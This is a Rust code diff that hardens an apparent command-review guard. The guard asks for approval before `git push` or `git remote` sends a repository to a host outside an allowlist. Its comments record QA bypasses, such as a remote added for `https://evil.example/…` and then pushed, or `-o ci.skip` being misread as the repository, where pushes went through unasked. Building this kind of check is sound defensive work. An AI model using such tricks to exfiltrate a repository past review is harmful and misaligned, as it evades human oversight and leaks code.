@@ -181,9 +181,41 @@ pub(crate) fn git_push(args: &[String], allow: &HostAllowlist, f: &mut Findings)
     let Some(at) = args.iter().position(|a| a == "push") else {
         return;
     };
-    let Some(repo) = args[at + 1..].iter().find(|a| !a.starts_with('-')) else {
-        return;
-    };
+    let rest = args.get(at + 1..).unwrap_or_default();
+    // `--repo=URL` names the repository too; `-o X` and `--push-option
+    // X` take values (QA, 2026-12-05: `git push -o ci.skip URL` took
+    // `ci.skip` for the repository, and pushed unasked)
+    let repo = rest
+        .iter()
+        .find_map(|a| a.strip_prefix("--repo="))
+        .or_else(|| {
+            rest.iter()
+                .position(|a| a == "--repo")
+                .and_then(|i| rest.get(i + 1))
+                .map(String::as_str)
+        });
+    let mut skip_next = false;
+    let positional = rest.iter().find(|a| {
+        if std::mem::take(&mut skip_next) {
+            return false;
+        }
+        if matches!(
+            a.as_str(),
+            "-o" | "--push-option" | "--repo" | "--receive-pack" | "--exec"
+        ) {
+            skip_next = true;
+            return false;
+        }
+        !a.starts_with('-')
+    });
+    for repo in repo.into_iter().chain(positional.map(String::as_str)) {
+        push_to(repo, allow, f);
+    }
+}
+
+/// `git push` to `repo`: asked about when it is an address on a host not
+/// on the allowlist.
+fn push_to(repo: &str, allow: &HostAllowlist, f: &mut Findings) {
     if let Some(host) = remote_host(repo)
         && !allow.allows(&host)
     {
@@ -193,84 +225,45 @@ pub(crate) fn git_push(args: &[String], allow: &HostAllowlist, f: &mut Findings)
     }
 }
 
-/// A git remote pointed at a host not on the allowlist: `git remote add
-/// NAME URL`, `git remote set-url NAME URL`, `git config
-/// remote.NAME.url URL` (or `pushurl`), a URL rewrite `git config
-/// url.BASE.insteadOf PREFIX` (or `pushInsteadOf`) whose BASE is such a
-/// host, each also as `git -c KEY=VALUE`. A later `git push NAME` names
-/// no host review can see, so the remote is asked about as it is set
-/// (QA: `git remote add x https://evil.example/r.git`, then `git push
-/// x`, pushed unasked, in one command or two).
+/// A git remote pointed at a host not on the allowlist by `git remote
+/// add NAME URL` or `git remote set-url NAME URL`: a later `git push
+/// NAME` names no host review can see, so the remote is asked about as
+/// it is set (QA, 2026-12-05: `git remote add x https://evil.example/…`,
+/// then `git push x`, pushed unasked, in one command or two). The
+/// settings that do the same (`remote.NAME.url`, `url.BASE.insteadOf`,
+/// by `git config`, `git -c`, `--config-env` or `GIT_CONFIG_*`) are
+/// found where git settings are read (`shell_git.rs`) and checked by
+/// [`remote_address`].
 pub(crate) fn git_remote(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
-    let mut hosts = Vec::new();
-    let mut i = 0;
-    // global options, up to the subcommand
-    while let Some(a) = args.get(i) {
-        match a.as_str() {
-            "-c" => {
-                if let Some(kv) = args.get(i + 1) {
-                    let (key, value) = kv.split_once('=').unwrap_or((kv, ""));
-                    hosts.extend(remote_setting_hosts(key, value));
-                }
-                i += 2;
-            }
-            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--config-env" => i += 2,
-            a if a.starts_with('-') => i += 1,
-            _ => break,
-        }
-    }
-    let rest = args.get(i + 1..).unwrap_or_default();
-    let words: Vec<&str> = rest
-        .iter()
-        .map(String::as_str)
-        .filter(|a| !a.starts_with('-'))
-        .collect();
-    match args.get(i).map(String::as_str) {
-        Some("remote") => {
-            if let ["add" | "set-url", _name, urls @ ..] = words.as_slice() {
-                hosts.extend(urls.iter().filter_map(|u| remote_host(u)));
-            }
-        }
-        Some("config") => match words.as_slice() {
-            ["set", key, value, ..] | [key, value, ..] => {
-                hosts.extend(remote_setting_hosts(key, value));
-            }
-            _ => {}
-        },
-        _ => {}
-    }
-    for host in hosts {
-        if !allow.allows(&host) {
-            f.ask(format!(
-                "points a git remote at {host}, which is not on the review allowlist (a later \
-                 git push would send the repository there)"
-            ));
+    let Some(at) = args.iter().position(|a| a == "remote") else {
+        return;
+    };
+    let rest = args.get(at + 1..).unwrap_or_default();
+    // `-t BRANCH`, `-m MASTER` take values
+    let words = positionals(rest, "tm");
+    if let ["add" | "set-url", _name, urls @ ..] = words.as_slice() {
+        for url in urls {
+            remote_address(Some(url), allow, f);
         }
     }
 }
 
-/// The hosts a git setting `key = value` sends pushes to, for the
-/// settings that name a remote's address.
-fn remote_setting_hosts(key: &str, value: &str) -> Vec<String> {
-    let lower = key.to_ascii_lowercase();
-    if lower.starts_with("remote.") && (lower.ends_with(".url") || lower.ends_with(".pushurl")) {
-        return remote_host(value).into_iter().collect();
+/// Asks about a remote pointed at `address` unless its host is on the
+/// allowlist (a local path has none); `None` is an address review cannot
+/// see, asked about too.
+pub(crate) fn remote_address(address: Option<&str>, allow: &HostAllowlist, f: &mut Findings) {
+    let Some(address) = address else {
+        f.ask("points a git remote at an address review cannot see (a later git push would send the repository there)");
+        return;
+    };
+    if let Some(host) = remote_host(address)
+        && !allow.allows(&host)
+    {
+        f.ask(format!(
+            "points a git remote at {host}, which is not on the review allowlist (a later \
+             git push would send the repository there)"
+        ));
     }
-    // url.<base>.insteadOf: addresses starting with the value go to base
-    if let Some(base) = key.get(4..).filter(|_| lower.starts_with("url.")) {
-        for suffix in [".insteadof", ".pushinsteadof"] {
-            if lower.ends_with(suffix) {
-                // (`url.insteadOf` alone has no base)
-                let base = base
-                    .len()
-                    .checked_sub(suffix.len())
-                    .and_then(|end| base.get(..end))
-                    .unwrap_or_default();
-                return remote_host(base).into_iter().collect();
-            }
-        }
-    }
-    Vec::new()
 }
 
 fn wget(args: &[String], allow: &HostAllowlist, f: &mut Findings) {
